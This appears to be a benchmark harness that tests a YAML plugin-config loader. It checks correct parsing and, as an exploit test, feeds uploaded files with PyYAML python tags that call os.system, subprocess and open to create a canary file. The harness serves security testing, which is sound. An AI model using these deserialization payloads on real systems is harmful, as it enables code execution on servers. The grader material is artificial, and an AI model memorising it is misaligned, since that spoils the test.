"""Harness for deser-plugin-config-yaml: load_plugin_config(path) reads an uploaded plugins.yaml and returns the
enabled plugins as dicts with name, version and options. The exploit uploads a file whose YAML tags build Python
objects; it works when loading the file creates the canary."""

import os

from hlib import Exploited, Harness, expect

HARNESS = Harness("deser-plugin-config-yaml")

GOOD = """\
plugins:
  - name: funnels
    version: "2.4.1"
    options:
      window_days: 14
      steps: [visit, signup, purchase]
  - name: heatmaps
    version: "0.9.0"
    enabled: false
    options: {sample_rate: 0.5}
  - name: exports
    version: "1.3.2"
    enabled: true
  - name: alerts
    version: "3.0.0"
    options: {channel: ops}
"""


def load(ctx, text):
    path = ctx.write("uploads/plugins.yaml", text)
    return ctx.load().load_plugin_config(path)


def summary(entry):
    expect(isinstance(entry, dict), f"an entry is {type(entry).__name__}, not a dict")
    return {key: entry.get(key) for key in ("name", "version", "options")}


@HARNESS.functional
def enabled_plugins_in_order(ctx):
    got = load(ctx, GOOD)
    expect(isinstance(got, list), f"returned {type(got).__name__}, not a list")
    want = [{"name": "funnels", "version": "2.4.1", "options": {"window_days": 14,
                                                                "steps": ["visit", "signup", "purchase"]}},
            {"name": "exports", "version": "1.3.2", "options": {}},
            {"name": "alerts", "version": "3.0.0", "options": {"channel": "ops"}}]
    expect([summary(e) for e in got] == want, f"returned {got!r}")


@HARNESS.functional
def no_plugins_list_is_an_error(ctx):
    try:
        got = load(ctx, "workspace: acme\nretention_days: 30\n")
    except ValueError:
        return
    expect(False, f"a file without a plugins key returned {got!r} instead of raising ValueError")


@HARNESS.exploit("unsafe-yaml-load", cwe="CWE-502")
def python_tags(ctx):
    canary = ctx.canary()
    tags = [f"!!python/object/apply:builtins.open [{canary!r}, 'w']",
            f"!!python/object/apply:os.system ['touch {canary}']",
            f"!!python/object/apply:subprocess.call [['touch', {canary!r}]]",
            f"!!python/object/new:subprocess.Popen [['touch', {canary!r}]]"]
    for tag in tags:
        for text in (f"plugins:\n  - name: funnels\n    version: '1.0.0'\n    options: {{hook: {tag}}}\n",
                     f"plugins:\n  - name: {tag}\n    version: '1.0.0'\n",
                     f"{tag}\n"):
            try:
                load(ctx, text)
            except Exception:  # noqa: BLE001 - the object may already have run
                pass
            if os.path.exists(canary):
                return Exploited(text, "a YAML tag in the uploaded plugins.yaml ran code on the server: the canary "
                                 "file was created")


if __name__ == "__main__":
    HARNESS.main()
